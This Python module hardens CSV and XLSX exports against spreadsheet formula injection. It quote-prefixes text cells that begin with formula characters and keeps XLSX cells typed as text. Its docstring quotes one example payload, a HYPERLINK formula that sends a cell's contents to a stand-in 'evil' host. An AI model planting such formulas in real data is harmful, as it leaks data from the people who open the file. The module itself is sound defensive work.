"""Spreadsheet cells that cannot be turned against the staff who open them (CSV / formula injection).

A spreadsheet program reads a CSV cell that starts with = + - @ (or a tab or carriage return before one) as a
formula: a member who types `=HYPERLINK("http://evil/?"&A1)` as their phone number would run it on the clerk's
machine when the member list is opened. Every CSV the system writes passes its text cells through
`neutralise_csv_cell`, which puts a single quote in front (the OWASP advice); numbers, dates and Decimals are left
alone, so a negative amount stays -5.00. XLSX cells are typed instead: `xlsx_text_cell` keeps a string a string.

This module sits in the lowest layer (beside money.py) so every app's exports can use the one rule.
"""

import datetime
import re
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_csv_cell(value):
    """A text cell with a leading quote when a spreadsheet would read it as a formula; anything else unchanged.

    Only `str` is touched: Decimal, int, float, dates and None pass through, so numbers stay numbers."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(value) -> str:
    """One CSV cell as text: Decimal with two places, dates in ISO form, None empty, other text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, Decimal):
        return f"{value:.2f}"
    if isinstance(value, (int, float)):
        return str(value)
    if isinstance(value, (datetime.date, datetime.datetime, datetime.time)):
        return value.isoformat()
    return neutralise_csv_cell(str(value))


# Control characters that XML 1.0 (and so XLSX) cannot hold; openpyxl raises IllegalCharacterError on them.
XLSX_ILLEGAL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def xlsx_clean_text(value):
    """Text without the control characters an XLSX cannot hold (a name typed with a stray \\x07 must not fail the
    whole file); anything that is not text unchanged."""
    if isinstance(value, str):
        return XLSX_ILLEGAL_CHARACTERS.sub("", value)
    return value


def xlsx_text_cell(cell):
    """Keep an openpyxl cell that holds text as text: openpyxl marks any string starting with "=" as a formula
    (data type "f"); set it back to a string, and quote-prefix risky text so editing the cell in Excel does not
    turn it into a formula either. Returns the cell."""
    value = cell.value
    if isinstance(value, str):
        if cell.data_type == "f":
            cell.data_type = "s"
        if value.startswith(FORMULA_STARTS):
            cell.quotePrefix = True
    return cell


def safe_table_export(export_format, table, **kwargs):
    """django-tables2's TableExport with every text cell neutralised (CSV) or kept as text (XLSX).

    Both formats get the leading quote on risky text: tablib's XLSX writer stores "=..." strings as formulas."""
    from django_tables2.export import TableExport
    from tablib import Dataset

    exporter = TableExport(export_format, table, **kwargs)
    source = exporter.dataset
    dataset = Dataset(title=source.title, headers=[neutralise_csv_cell(str(h)) for h in source.headers or []])
    for row in source:
        dataset.append([neutralise_csv_cell(v) for v in row])
    exporter.dataset = dataset
    return exporter
